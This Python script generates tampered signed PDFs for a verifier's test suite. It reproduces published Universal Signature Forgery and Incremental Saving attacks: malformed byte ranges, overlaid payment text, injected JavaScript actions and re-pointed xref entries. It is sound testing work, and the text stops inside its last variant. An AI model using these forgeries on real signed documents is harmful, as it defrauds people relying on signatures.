#!/usr/bin/env python3
"""pdf_tamper.py: builds the attack corpus of tests/cli/verify_attacks.test.sh.

A small PDF reader (classic xref tables, xref streams, object streams) and
an incremental-update writer, with no third-party modules, plus one named
variant per attack so the test reads as a list of cases:

    pdf_tamper.py VARIANT IN.pdf OUT.pdf [--sig N] [--key K --cert C --chain P]

An incremental update is new or changed objects, an xref section, a
trailer with /Prev, /Root and /Size, startxref and %%EOF, appended to the
file. `list` prints every variant with what it does.

The attacks are those of Mladenov et al., "1 Trillion Dollar Refund"
(2019: Universal Signature Forgery, Incremental Saving Attack, Signature
Wrapping) and Mainka et al., "Shadow Attacks" (2021) and "Breaking the
Specification: PDF Certification" (2021: evil annotations, sneaky
signatures); see ../shared/PDF-SIGNATURES.md.
"""

import argparse
import os
import re
import subprocess
import tempfile
import time
import zlib

# --------------------------------------------------------------- objects


class Name(str):
    pass


class Ref(tuple):
    def __new__(cls, num, gen=0):
        return tuple.__new__(cls, (num, gen))

    @property
    def num(self):
        return self[0]

    @property
    def gen(self):
        return self[1]


class Str(bytes):
    hex = False


class HexStr(Str):
    hex = True


class Stream:
    def __init__(self, d, data):
        self.dict = d
        self.data = data


WS = b"\x00\t\n\x0c\r "
DELIM = b"()<>[]{}/%"
REGULAR_END = WS + DELIM


class Lexer:
    def __init__(self, data, pos=0):
        self.data = data
        self.pos = pos

    def skip(self):
        d = self.data
        while self.pos < len(d):
            c = d[self.pos]
            if c in WS:
                self.pos += 1
            elif c == 0x25:  # %
                while self.pos < len(d) and d[self.pos] not in b"\r\n":
                    self.pos += 1
            else:
                break

    def token(self):
        """The next token as (kind, value); kinds: num, name, str, hex,
        punct ('<<' '>>' '[' ']' '{' '}'), word, eof."""
        self.skip()
        d = self.data
        if self.pos >= len(d):
            return ("eof", None)
        c = d[self.pos : self.pos + 1]
        if d.startswith(b"<<", self.pos) or d.startswith(b">>", self.pos):
            self.pos += 2
            return ("punct", d[self.pos - 2 : self.pos].decode())
        if c in (b"[", b"]", b"{", b"}"):
            self.pos += 1
            return ("punct", c.decode())
        if c == b"/":
            start = self.pos + 1
            self.pos = start
            while self.pos < len(d) and d[self.pos] not in REGULAR_END:
                self.pos += 1
            raw = d[start : self.pos]
            name = re.sub(rb"#([0-9A-Fa-f]{2})", lambda m: bytes([int(m.group(1), 16)]), raw)
            return ("name", Name("/" + name.decode("latin-1")))
        if c == b"(":
            return ("str", self.literal())
        if c == b"<":
            end = d.index(b">", self.pos)
            text = re.sub(rb"[^0-9A-Fa-f]", b"", d[self.pos + 1 : end])
            if len(text) % 2:
                text += b"0"
            self.pos = end + 1
            return ("hex", HexStr(bytes.fromhex(text.decode())))
        start = self.pos
        while self.pos < len(d) and d[self.pos] not in REGULAR_END:
            self.pos += 1
        if self.pos == start:  # a stray delimiter: ')' or '>'
            self.pos += 1
            return ("word", d[start : self.pos].decode("latin-1"))
        word = d[start : self.pos].decode("latin-1")
        if re.fullmatch(r"[+-]?\d+", word):
            return ("num", int(word))
        if re.fullmatch(r"[+-]?(\d+\.\d*|\.\d+|\d+\.)", word):
            return ("num", float(word))
        return ("word", word)

    def literal(self):
        d = self.data
        self.pos += 1
        depth = 1
        out = bytearray()
        escapes = {ord("n"): 10, ord("r"): 13, ord("t"): 9, ord("b"): 8, ord("f"): 12}
        while self.pos < len(d):
            c = d[self.pos]
            self.pos += 1
            if c == 0x5C:  # backslash
                e = d[self.pos]
                self.pos += 1
                if e in escapes:
                    out.append(escapes[e])
                elif 0x30 <= e <= 0x37:
                    digits = bytes([e])
                    while len(digits) < 3 and 0x30 <= d[self.pos] <= 0x37:
                        digits += bytes([d[self.pos]])
                        self.pos += 1
                    out.append(int(digits, 8) & 255)
                elif e == 0x0D:
                    if d[self.pos] == 0x0A:
                        self.pos += 1
                elif e == 0x0A:
                    pass
                else:
                    out.append(e)
            elif c == 0x28:
                depth += 1
                out.append(c)
            elif c == 0x29:
                depth -= 1
                if depth == 0:
                    break
                out.append(c)
            else:
                out.append(c)
        return Str(bytes(out))

    def value(self):
        """One object; integers followed by 'G R' become references."""
        kind, v = self.token()
        if kind == "num" and isinstance(v, int):
            save = self.pos
            k2, v2 = self.token()
            if k2 == "num" and isinstance(v2, int):
                k3, v3 = self.token()
                if k3 == "word" and v3 == "R":
                    return Ref(v, v2)
            self.pos = save
            return v
        if kind in ("num", "name", "str", "hex"):
            return v
        if kind == "punct" and v == "[":
            items = []
            while True:
                self.skip()
                if self.data.startswith(b"]", self.pos):
                    self.pos += 1
                    return items
                if self.pos >= len(self.data):
                    raise ValueError("unterminated array")
                items.append(self.value())
        if kind == "punct" and v == "<<":
            d = {}
            while True:
                self.skip()
                if self.data.startswith(b">>", self.pos):
                    self.pos += 2
                    return d
                k, key = self.token()
                if k != "name":
                    raise ValueError("dictionary key expected at %d" % self.pos)
                d[key] = self.value()
        if kind == "word":
            return {"true": True, "false": False, "null": None}.get(v, None)
        raise ValueError("unexpected %s %r at %d" % (kind, v, self.pos))


def fmt(v):
    """Serialises a value."""
    if v is None:
        return b"null"
    if v is True:
        return b"true"
    if v is False:
        return b"false"
    if isinstance(v, Ref):
        return b"%d %d R" % (v.num, v.gen)
    if isinstance(v, Name):
        out = b"/"
        for ch in v[1:].encode("latin-1") if v.startswith("/") else v.encode("latin-1"):
            if ch < 33 or ch > 126 or ch in b"#()<>[]{}/%":
                out += b"#%02X" % ch
            else:
                out += bytes([ch])
        return out
    if isinstance(v, Str):
        if v.hex:
            return b"<" + bytes(v).hex().encode() + b">"
        return b"(" + bytes(v).replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r") + b")"
    if isinstance(v, bytes):
        return fmt(Str(v))
    if isinstance(v, str):
        return fmt(Str(v.encode("latin-1")))
    if isinstance(v, bool):
        return b"true" if v else b"false"
    if isinstance(v, int):
        return b"%d" % v
    if isinstance(v, float):
        return ("%.4f" % v).rstrip("0").rstrip(".").encode()
    if isinstance(v, list):
        return b"[" + b" ".join(fmt(x) for x in v) + b"]"
    if isinstance(v, dict):
        return b"<< " + b" ".join(fmt(Name(k)) + b" " + fmt(x) for k, x in v.items()) + b" >>"
    if isinstance(v, Stream):
        d = dict(v.dict)
        d["/Length"] = len(v.data)
        return fmt(d) + b"\nstream\n" + v.data + b"\nendstream"
    raise TypeError("cannot serialise %r" % (v,))


def text(s):
    """A text string: PDFDocEncoding when ASCII, else UTF-16BE with BOM."""
    try:
        return Str(s.encode("ascii"))
    except UnicodeEncodeError:
        return HexStr(b"\xfe\xff" + s.encode("utf-16-be"))


# --------------------------------------------------------------- reading


class Pdf:
    def __init__(self, data):
        self.data = data
        self.xref = {}  # num -> ('n', offset, gen) | ('o', stream, index) | ('f',)
        self.sections = []  # startxref offsets, newest first
        self.trailer = None
        self._objstm = {}
        self._cache = {}
        at = self.last_startxref()
        seen = set()
        while at is not None and at not in seen:
            seen.add(at)
            self.sections.append(at)
            trailer = self._read_section(at)
            if self.trailer is None:
                self.trailer = trailer
            if isinstance(trailer.get("/XRefStm"), int):
                self._read_section(trailer["/XRefStm"])
            at = trailer.get("/Prev")

    def last_startxref(self):
        i = self.data.rindex(b"startxref")
        return int(re.match(rb"startxref\s+(\d+)", self.data[i:]).group(1))

    def _put(self, num, entry):
        self.xref.setdefault(num, entry)

    def _read_section(self, at):
        lx = Lexer(self.data, at)
        if self.data.startswith(b"xref", at):
            lx.pos = at + 4
            while True:
                kind, v = lx.token()
                if kind == "word" and v == "trailer":
                    return lx.value()
                start = v
                _, count = lx.token()
                for i in range(count):
                    _, off = lx.token()
                    _, gen = lx.token()
                    _, t = lx.token()
                    self._put(start + i, ("n", off, gen) if t == "n" else ("f",))
        num, gen, stream = self._read_indirect(at)
        d = stream.dict
        data = decode(stream)
        w = d["/W"]
        index = d.get("/Index", [0, d["/Size"]])
        pos = 0
        for k in range(0, len(index), 2):
            for i in range(index[k + 1]):
                fields = []
                for width in w:
                    fields.append(int.from_bytes(data[pos : pos + width], "big") if width else None)
                    pos += width
                t = fields[0] if fields[0] is not None else 1
                if t == 1:
                    self._put(index[k] + i, ("n", fields[1], fields[2] or 0))
                elif t == 2:
                    self._put(index[k] + i, ("o", fields[1], fields[2]))
                else:
                    self._put(index[k] + i, ("f",))
        return d

    def _read_indirect(self, offset):
        lx = Lexer(self.data, offset)
        _, num = lx.token()
        _, gen = lx.token()
        kind, word = lx.token()
        if word != "obj":
            raise ValueError("no object at offset %d" % offset)
        v = lx.value()
        save = lx.pos
        kind, word = lx.token()
        if kind == "word" and word == "stream":
            p = lx.pos
            if self.data.startswith(b"\r\n", p):
                p += 2
            elif self.data[p : p + 1] in (b"\n", b"\r"):
                p += 1
            length = v.get("/Length")
            if isinstance(length, Ref):
                length = self.get(length.num)
            return num, gen, Stream(v, self.data[p : p + length])
        lx.pos = save
        return num, gen, v

    def offset(self, num):
        e = self.xref.get(num)
        return e[1] if e and e[0] == "n" else None

    def get(self, num):
        """The object `num` as the last revision defines it."""
        if isinstance(num, Ref):
            num = num.num
        if num in self._cache:
            return self._cache[num]
        e = self.xref.get(num)
        if e is None or e[0] == "f":
            return None
        if e[0] == "n":
            v = self._read_indirect(e[1])[2]
        else:
            v = self._from_objstm(e[1], e[2])
        self._cache[num] = v
        return v

    def _from_objstm(self, snum, index):
        if snum not in self._objstm:
            s = self.get(snum)
            data = decode(s)
            lx = Lexer(data)
            pairs = [(lx.token()[1], lx.token()[1]) for _ in range(s.dict["/N"])]
            objs = {}
            for n, off in pairs:
                objs[n] = Lexer(data, s.dict["/First"] + off).value()
            self._objstm[snum] = (pairs, objs)
        pairs, objs = self._objstm[snum]
        return objs[pairs[index][0]]

    def resolve(self, v):
        return self.get(v) if isinstance(v, Ref) else v

    @property
    def root_ref(self):
        return self.trailer["/Root"]

    @property
    def root(self):
        return self.get(self.root_ref)

    @property
    def size(self):
        return max(self.trailer.get("/Size", 0), max(self.xref) + 1 if self.xref else 0)

    def pages(self):
        out = []

        def walk(ref, depth):
            node = self.resolve(ref)
            if depth > 32 or not isinstance(node, dict):
                return
            if node.get("/Type") == "/Pages" or "/Kids" in node and node.get("/Type") != "/Page":
                for kid in self.resolve(node.get("/Kids", [])):
                    walk(kid, depth + 1)
            else:
                out.append(ref.num)

        walk(self.root["/Pages"], 0)
        return out

    def fields(self):
        """[(full name, object number)] of every field and kid."""
        out = []

        def walk(ref, parent, depth):
            f = self.resolve(ref)
            if depth > 32 or not isinstance(f, dict):
                return
            name = parent
            t = f.get("/T")
            if isinstance(t, Str):
                t = decode_text(t)
                name = t if not parent else parent + "." + t
            out.append((name, ref.num if isinstance(ref, Ref) else None))
            for kid in self.resolve(f.get("/Kids", [])) or []:
                walk(kid, name, depth + 1)

        acroform = self.resolve(self.root.get("/AcroForm"))
        if isinstance(acroform, dict):
            for f in self.resolve(acroform.get("/Fields", [])):
                walk(f, "", 0)
        return out

    def field(self, name):
        for n, num in self.fields():
            if n == name:
                return num
        raise KeyError("no field %r" % name)

    def signatures(self):
        """[(field name, field number, signature dictionary number)], in
        the order of the file (the signed revision's end)."""
        out = []
        for name, num in self.fields():
            f = self.get(num)
            v = f.get("/V")
            ft = f.get("/FT")
            if ft is None and isinstance(f.get("/Parent"), Ref):
                ft = self.get(f["/Parent"]).get("/FT")
            if ft == "/Sig" and isinstance(v, Ref):
                out.append((name, num, v.num))

        def end(item):
            br = self.get(item[2]).get("/ByteRange")
            return br[2] + br[3] if isinstance(br, list) and len(br) == 4 else 0

        return sorted(out, key=end)

    def sig_dict_span(self, signum):
        """(start, end) offsets of the signature object's bytes."""
        start = self.offset(signum)
        end = self.data.index(b"endobj", start) + len(b"endobj")
        return start, end


def decode_text(s):
    b = bytes(s)
    if b.startswith(b"\xfe\xff"):
        return b[2:].decode("utf-16-be")
    return b.decode("latin-1")


def decode(stream):
    data = stream.data
    filters = stream.dict.get("/Filter")
    parms = stream.dict.get("/DecodeParms")
    if isinstance(filters, str):
        filters, parms = [filters], [parms]
    for i, f in enumerate(filters or []):
        if f != "/FlateDecode":
            raise ValueError("unsupported filter %s" % f)
        data = zlib.decompress(data)
        p = parms[i] if isinstance(parms, list) and i < len(parms) else None
        if isinstance(p, dict) and p.get("/Predictor", 1) >= 10:
            data = unpredict(data, p.get("/Columns", 1))
    return data


def unpredict(data, columns):
    out = bytearray()
    prev = bytearray(columns)
    for i in range(0, len(data), columns + 1):
        kind, row = data[i], bytearray(data[i + 1 : i + 1 + columns])
        for j in range(len(row)):
            left = row[j - 1] if j else 0
            up = prev[j]
            if kind == 1:
                row[j] = (row[j] + left) & 255
            elif kind == 2:
                row[j] = (row[j] + up) & 255
            elif kind == 3:
                row[j] = (row[j] + (left + up) // 2) & 255
            elif kind == 4:
                ul = prev[j - 1] if j else 0
                p = left + up - ul
                pa, pb, pc = abs(p - left), abs(p - up), abs(p - ul)
                row[j] = (row[j] + (left if pa <= pb and pa <= pc else up if pb <= pc else ul)) & 255
        out += row
        prev = row
    return bytes(out)


# --------------------------------------------------------------- writing


class Update:
    """New and changed objects appended as one revision."""

    def __init__(self, pdf):
        self.pdf = pdf
        self.objects = {}  # num -> (gen, bytes of the body)
        self.next = pdf.size
        self.freed = []
        self.raw = {}  # num -> (offset, gen): entries that point anywhere

    def new(self, value=None):
        num = self.next
        self.next += 1
        if value is not None:
            self.set(num, value)
        return Ref(num, 0)

    def set(self, num, value, gen=0):
        if isinstance(num, Ref):
            num = num.num
        self.objects[num] = (gen, value if isinstance(value, bytes) else fmt(value))

    def build(self, trailer_extra=None, data=None, raw_body=b"", prev=True):
        """The file with this update appended."""
        out = bytearray(self.pdf.data if data is None else data)
        if not out.endswith(b"\n"):
            out += b"\n"
        out += raw_body
        entries = {}
        for num, (gen, body) in sorted(self.objects.items()):
            entries[num] = (len(out), gen, b"n")
            out += b"%d %d obj\n" % (num, gen) + body + b"\nendobj\n"
        for num in self.freed:
            entries[num] = (0, 1, b"f")
        for num, (off, gen) in self.raw.items():
            entries[num] = (off, gen, b"n")
        xref_at = len(out)
        out += b"xref\n"
        for num in sorted(entries):
            off, gen, t = entries[num]
            out += b"%d 1\n%010d %05d %s \n" % (num, off, gen, t)
        trailer = {"/Size": max([self.next] + [n + 1 for n in entries]), "/Root": self.pdf.root_ref}
        for key in ("/Info", "/ID"):
            if key in self.pdf.trailer:
                trailer[key] = self.pdf.trailer[key]
        if prev:
            trailer["/Prev"] = self.pdf.last_startxref()
        trailer.update(trailer_extra or {})
        out += b"trailer\n" + fmt(trailer) + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)


def stream(content, extra=None):
    d = dict(extra or {})
    return Stream(d, content)


RED_BOX = b"q 1 0 0 rg 90 600 420 90 re f BT /F9 28 Tf 1 1 1 rg 110 630 Td (PAY EUR 99 999) Tj ET Q\n"
HELV = {"/Type": Name("/Font"), "/Subtype": Name("/Type1"), "/BaseFont": Name("/Helvetica")}


def page_with(pdf, up, pagenum, **changes):
    page = dict(pdf.get(pagenum))
    page.update(changes)
    up.set(pagenum, page)
    return page


def resources_of(pdf, page):
    res = page.get("/Resources")
    node = page
    while res is None and isinstance(node.get("/Parent"), Ref):
        node = pdf.get(node["/Parent"])
        res = node.get("/Resources")
    return pdf.resolve(res) or {}


def font_resources(pdf, up, page):
    """Page resources with /F9 Helvetica added (for new content)."""
    res = dict(resources_of(pdf, page))
    fonts = dict(pdf.resolve(res.get("/Font")) or {})
    fonts["/F9"] = up.new(HELV)
    res["/Font"] = fonts
    return res


def content_list(pdf, page):
    c = page.get("/Contents")
    c = pdf.resolve(c) if isinstance(c, Ref) and isinstance(pdf.get(c), list) else c
    return c if isinstance(c, list) else [c]


# --------------------------------------------------------------- signing


class Signer:
    """Makes CMS signatures with the openssl command line (another signer
    than signet and NSS): adbe.pkcs7.detached or ETSI.CAdES.detached."""

    def __init__(self, key, cert, chain=None, md="sha256", cades=False, noattr=False, ber=False):
        self.key, self.cert, self.chain = key, cert, chain
        self.md, self.cades, self.noattr, self.ber = md, cades, noattr, ber

    def sign(self, data):
        with tempfile.TemporaryDirectory() as tmp:
            src, out = os.path.join(tmp, "in"), os.path.join(tmp, "out")
            with open(src, "wb") as f:
                f.write(data)
            cmd = ["openssl", "cms", "-sign", "-binary", "-nosmimecap", "-outform", "DER",
                   "-in", src, "-out", out, "-signer", self.cert, "-inkey", self.key, "-md", self.md]
            if self.chain:
                cmd += ["-certfile", self.chain]
            if self.cades:
                cmd.append("-cades")
            if self.noattr:
                cmd.append("-noattr")

            subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)
            with open(out, "rb") as f:
                der = f.read()
            return ber_indefinite(der) if self.ber else der


def tlv(data, pos):
    """(tag, header length, content length) of the DER element at pos."""
    tag = data[pos]
    n = data[pos + 1]
    if n < 0x80:
        return tag, 2, n
    k = n & 0x7F
    return tag, 2 + k, int.from_bytes(data[pos + 2 : pos + 2 + k], "big")


def ber_indefinite(der, depth=0):
    """The outer layers of a DER CMS (ContentInfo, [0], SignedData and its
    direct parts) re-encoded with indefinite lengths, as NSS writes them;
    certificates and signer infos keep their DER (they are signed)."""
    out = bytearray()
    pos = 0
    while pos < len(der):
        tag, hl, n = tlv(der, pos)
        body = der[pos + hl : pos + hl + n]
        if tag & 0x20 and depth <= 2:
            out += bytes([tag, 0x80]) + ber_indefinite(body, depth + 1) + b"\0\0"
        elif tag & 0x20 and depth == 3:
            out += bytes([tag, 0x80]) + body + b"\0\0"
        else:
            out += der[pos : pos + hl + n]
        pos += hl + n
    return bytes(out)


def sign_update(pdf, up, signer, sig_fields, *, subfilter="adbe.pkcs7.detached", room=8192,
                gap_extra=b"", docmdp=None):
    """Appends `up` with a signature dictionary (placed last) whose CMS
    covers [0 a b c]; `gap_extra` goes into the unsigned gap after the
    /Contents string (signature wrapping when not empty). `sig_fields` are
    the fields whose /V becomes the new dictionary."""
    signum = up.new()
    for fnum in sig_fields:
        f = dict(pdf.get(fnum)) if fnum in pdf.xref else None
        if fnum in up.objects:
            f = Lexer(up.objects[fnum][1]).value()
        f["/V"] = signum
        up.set(fnum, f)
    # The claimed time is now: the keys are made just before.
    head = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /" + subfilter.encode() +
            time.strftime(" /M (D:%Y%m%d%H%M%SZ)", time.gmtime()).encode())
    if docmdp:
        head += (b" /Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams"
                 b" << /Type /TransformParams /P %d /V /1.2 >> >>]" % docmdp)
    head += b" /ByteRange [0 0000000000 0000000000 0000000000] /Contents "
    placeholder = b"<" + b"0" * (2 * room) + b">"
    up.set(signum, head + placeholder + gap_extra + b" >>")
    data = bytearray(up.build())
    obj_at = data.rindex(b"%d 0 obj\n" % signum.num)
    a = data.index(b"/Contents <", obj_at) + len(b"/Contents ")
    b = a + len(placeholder) + len(gap_extra)
    c = len(data) - b
    br = b"[0 %010d %010d %010d]" % (a, b, c)
    at = data.index(b"[0 0000000000 0000000000 0000000000]", obj_at)
    data[at : at + len(br)] = br
    der = signer.sign(bytes(data[:a]) + bytes(data[b:]))
    if len(der) > room:
        raise ValueError("the CMS does not fit")
    hexed = der.hex().encode()
    data[a + 1 : a + 1 + len(hexed)] = hexed
    return bytes(data)


def new_sig_field(pdf, up, pagenum, rect, name, appearance=None):
    """A new signature field with its widget on page `pagenum`."""
    widget = {"/Type": Name("/Annot"), "/Subtype": Name("/Widget"), "/FT": Name("/Sig"),
              "/T": text(name), "/Rect": rect, "/F": 4, "/P": Ref(pagenum)}
    if appearance is not None:
        widget["/AP"] = {"/N": up.new(appearance)}
    w = up.new(widget)
    page = dict(pdf.get(pagenum)) if pagenum not in up.objects else Lexer(up.objects[pagenum][1]).value()
    annots = list(pdf.resolve(page.get("/Annots")) or [])
    page["/Annots"] = annots + [w]
    up.set(pagenum, page)
    root = dict(pdf.root)
    acro_ref = root.get("/AcroForm")
    acro = dict(pdf.resolve(acro_ref) or {})
    acro["/Fields"] = list(pdf.resolve(acro.get("/Fields")) or []) + [w]
    acro["/SigFlags"] = 3
    if isinstance(acro_ref, Ref):
        up.set(acro_ref, acro)
    else:
        # An indirect form dictionary: poppler 22.12 (pdfsig) adding a field
        # later does not rewrite a direct one, and its field is then listed
        # nowhere.
        root["/AcroForm"] = up.new(acro)
        up.set(pdf.root_ref, root)
    return w.num


def form_xobject(content, bbox, resources=None):
    d = {"/Type": Name("/XObject"), "/Subtype": Name("/Form"), "/BBox": bbox}
    if resources is not None:
        d["/Resources"] = resources
    return stream(content, d)


# --------------------------------------------------------------- variants

VARIANTS = {}


def variant(name, doc):
    def wrap(fn):
        VARIANTS[name] = (fn, doc)
        return fn

    return wrap


def target_sigs(pdf, args):
    sigs = pdf.signatures()
    if not sigs:
        raise SystemExit("pdf_tamper: no signature in the input")
    return sigs if args.sig == 0 else [sigs[args.sig - 1]]


def usf(change):
    """Every signature dictionary rewritten with `change`, and page 1's
    content replaced: the forgery a viewer that skips the check shows."""

    def fn(pdf, args):
        up = Update(pdf)
        for _, _, signum in target_sigs(pdf, args):
            d = dict(pdf.get(signum))
            change(d)
            up.set(signum, d)
        page = pdf.pages()[0]
        p = pdf.get(page)
        page_with(pdf, up, page, **{"/Contents": up.new(stream(RED_BOX)), "/Resources": font_resources(pdf, up, p)})
        return up.build()

    return fn


def drop(key):
    return lambda d: d.pop(key, None)


def put(key, value):
    return lambda d: d.__setitem__(key, value)


def shifted_range(d):
    br = d["/ByteRange"]
    d["/ByteRange"] = [br[0] + 10, br[1], br[2], br[3]]


def overlapping_range(d):
    br = d["/ByteRange"]
    d["/ByteRange"] = [0, br[1], br[1] - 100, br[3] + (br[2] - br[1]) + 100]


def beyond_eof(d):
    br = d["/ByteRange"]
    d["/ByteRange"] = [0, br[1], br[2], br[3] + 1000000]


def zero_contents(d):
    d["/Contents"] = HexStr(bytes(len(d["/Contents"])))


for _name, _change, _doc in [
    ("usf-byterange-missing", drop("/ByteRange"), "signature dictionaries without /ByteRange"),
    ("usf-byterange-empty", put("/ByteRange", []), "/ByteRange []"),
    ("usf-byterange-null", put("/ByteRange", None), "/ByteRange null"),
    ("usf-byterange-zeros", put("/ByteRange", [0, 0, 0, 0]), "/ByteRange [0 0 0 0]"),
    ("usf-byterange-offset", shifted_range, "/ByteRange not starting at 0"),
    ("usf-byterange-overlap", overlapping_range, "/ByteRange ranges that overlap"),
    ("usf-byterange-beyond-eof", beyond_eof, "/ByteRange reaching past the end of the file"),
    ("usf-contents-missing", drop("/Contents"), "signature dictionaries without /Contents"),
    ("usf-contents-empty", put("/Contents", HexStr(b"")), "/Contents <>"),
    ("usf-contents-zeroed", zero_contents, "/Contents all zero bytes"),
]:
    variant(_name, "USF: " + _doc + ", with page 1's content replaced")(usf(_change))


def in_place(pdf, args, edit):
    """Edits the bytes of each target signature dictionary in place."""
    data = bytearray(pdf.data)
    for _, _, signum in target_sigs(pdf, args):
        start, end = pdf.sig_dict_span(signum)
        obj = bytearray(data[start:end])
        obj = edit(obj)
        if len(obj) != end - start:
            raise SystemExit("pdf_tamper: an in-place edit changed the length")
        data[start:end] = obj
    return bytes(data)


@variant("usf-inplace-byterange-offset", "USF in place: the first /ByteRange number made 1 (same length)")
def _(pdf, args):
    def edit(obj):
        return re.sub(rb"/ByteRange\s*\[\s*0", lambda m: m.group(0)[:-1] + b"1", bytes(obj), count=1)

    return in_place(pdf, args, edit)


@variant("usf-inplace-byterange-blank", "USF in place: the /ByteRange array blanked (spaces)")
def _(pdf, args):
    def edit(obj):
        m = re.search(rb"/ByteRange\s*\[([^\]]*)\]", bytes(obj))
        return bytes(obj[: m.start(1)]) + b" " * (m.end(1) - m.start(1)) + bytes(obj[m.end(1) :])

    return in_place(pdf, args, edit)


@variant("usf-inplace-contents-zeroed", "USF in place: every /Contents hex digit made 0")
def _(pdf, args):
    def edit(obj):
        m = re.search(rb"/Contents\s*<([0-9A-Fa-f\s]*)>", bytes(obj))
        return bytes(obj[: m.start(1)]) + b"0" * (m.end(1) - m.start(1)) + bytes(obj[m.end(1) :])

    return in_place(pdf, args, edit)


# Incremental Saving Attacks: an update after the last signature.


@variant("isa-content", "ISA: page 1's /Contents replaced with new content")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    page_with(pdf, up, page, **{"/Contents": up.new(stream(RED_BOX)), "/Resources": font_resources(pdf, up, p)})
    return up.build()


@variant("isa-content-appended", "ISA: a content stream appended to page 1's /Contents")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    extra = up.new(stream(b"q 1 0 0 rg 90 600 420 90 re f Q\n"))
    page_with(pdf, up, page, **{"/Contents": content_list(pdf, p) + [extra]})
    return up.build()


@variant("isa-content-rewritten", "ISA: page 1's existing content stream object redefined")
def _(pdf, args):
    up = Update(pdf)
    p = pdf.get(pdf.pages()[0])
    first = content_list(pdf, p)[0]
    old = pdf.get(first)
    up.set(first, stream(decode(old) + b"\n" + b"q 1 0 0 rg 90 600 420 90 re f Q\n"))
    return up.build()


@variant("isa-annotation", "ISA: a FreeText annotation added to page 1")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    ap = up.new(form_xobject(b"q 1 1 1 rg 0 0 300 40 re f BT /F9 18 Tf 0 0 0 rg 4 12 Td (Amount: EUR 1) Tj ET Q",
                             [0, 0, 300, 40], {"/Font": {"/F9": up.new(HELV)}}))
    a = up.new({"/Type": Name("/Annot"), "/Subtype": Name("/FreeText"), "/Rect": [90, 600, 390, 640],
                "/Contents": text("Amount: EUR 1"), "/DA": Str(b"/Helv 18 Tf 0 g"), "/F": 4,
                "/AP": {"/N": ap}, "/P": Ref(page)})
    page_with(pdf, up, page, **{"/Annots": list(pdf.resolve(p.get("/Annots")) or []) + [a]})
    return up.build()


@variant("isa-resources", "ISA: page 1's resources changed (every font made Courier)")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    p = pdf.get(page)
    res = dict(resources_of(pdf, p))
    fonts = dict(pdf.resolve(res.get("/Font")) or {})
    courier = up.new({"/Type": Name("/Font"), "/Subtype": Name("/Type1"), "/BaseFont": Name("/Courier")})
    for k in fonts:
        fonts[k] = courier
    fonts = fonts or {"/F9": courier}
    res["/Font"] = fonts
    page_with(pdf, up, page, **{"/Resources": res})
    return up.build()


@variant("isa-font-redefined", "ISA: a font object of page 1 redefined in place (same reference)")
def _(pdf, args):
    up = Update(pdf)
    p = pdf.get(pdf.pages()[0])
    fonts = pdf.resolve(resources_of(pdf, p).get("/Font")) or {}
    ref = next(v for v in fonts.values() if isinstance(v, Ref))
    font = dict(pdf.get(ref))
    font["/BaseFont"] = Name("/Courier")
    for k in ("/FontDescriptor", "/Widths", "/FirstChar", "/LastChar"):
        font.pop(k, None)
    font["/Subtype"] = Name("/Type1")
    up.set(ref, font)
    return up.build()


@variant("isa-signed-appearance", "ISA: the appearance of a signed signature field replaced")
def _(pdf, args):
    up = Update(pdf)
    _, fnum, _ = target_sigs(pdf, args)[-1]
    f = dict(pdf.get(fnum))
    rect = [float(x) for x in f.get("/Rect", [0, 0, 100, 40])]
    w, h = max(abs(rect[2] - rect[0]), 1), max(abs(rect[3] - rect[1]), 1)
    f["/AP"] = {"/N": up.new(form_xobject(b"q 1 0 0 rg 0 0 %d %d re f Q" % (w, h), [0, 0, w, h]))}
    up.set(fnum, f)
    return up.build()


@variant("isa-field-value", "ISA: a form field's value changed after signing (--field NAME)")
def _(pdf, args):
    up = Update(pdf)
    num = pdf.field(args.field)
    f = dict(pdf.get(num))
    f["/V"] = text("ul. Fałszywa 1, 00-001 Warszawa")
    f.pop("/AP", None)
    up.set(num, f)
    return up.build()


@variant("isa-openaction", "ISA: the catalog gains /OpenAction JavaScript")
def _(pdf, args):
    up = Update(pdf)
    root = dict(pdf.root)
    root["/OpenAction"] = {"/S": Name("/JavaScript"), "/JS": Str(b"app.alert('changed after signing');")}
    up.set(pdf.root_ref, root)
    return up.build()


@variant("isa-names-javascript", "ISA: the catalog's name tree gains document JavaScript")
def _(pdf, args):
    up = Update(pdf)
    root = dict(pdf.root)
    js = up.new({"/S": Name("/JavaScript"), "/JS": Str(b"this.getField('amount').value = 1;")})
    root["/Names"] = {"/JavaScript": up.new({"/Names": [Str(b"x"), js]})}
    up.set(pdf.root_ref, root)
    return up.build()


@variant("isa-page-action", "ISA: page 1 gains an /AA open action")
def _(pdf, args):
    up = Update(pdf)
    page = pdf.pages()[0]
    page_with(pdf, up, page, **{"/AA": {"/O": {"/S": Name("/JavaScript"), "/JS": Str(b"app.alert(1)")}}})
    return up.build()


@variant("isa-new-page", "ISA: a page added to the page tree")
def _(pdf, args):
    up = Update(pdf)
    pages_ref = pdf.root["/Pages"]
    tree = dict(pdf.get(pages_ref))
    first = pdf.get(pdf.pages()[0])
    new = up.new({"/Type": Name("/Page"), "/Parent": pages_ref, "/MediaBox": first.get("/MediaBox", [0, 0, 612, 792]),
                  "/Contents": up.new(stream(RED_BOX)), "/Resources": {"/Font": {"/F9": up.new(HELV)}}})
    tree["/Kids"] = list(pdf.resolve(tree["/Kids"])) + [new]
    tree["/Count"] = tree.get("/Count", 0) + 1
    up.set(pages_ref, tree)
    return up.build()


@variant("isa-free", "ISA: the page's content stream freed in an update")
def _(pdf, args):
    up = Update(pdf)
    p = pdf.get(pdf.pages()[0])
    up.freed.append(content_list(pdf, p)[0].num)
    return up.build()


@variant("isa-xref-repoint", "ISA: an xref-only update re-points page 1's content to the catalog's bytes")
def _(pdf, args):
    up = Update(pdf)
    p = pdf.get(pdf.pages()[0])
    # An entry that points into the signed bytes, at another object.
    up.raw[content_list(pdf, p)[0].num] = (pdf.offset(pdf.root_ref.num), 0)
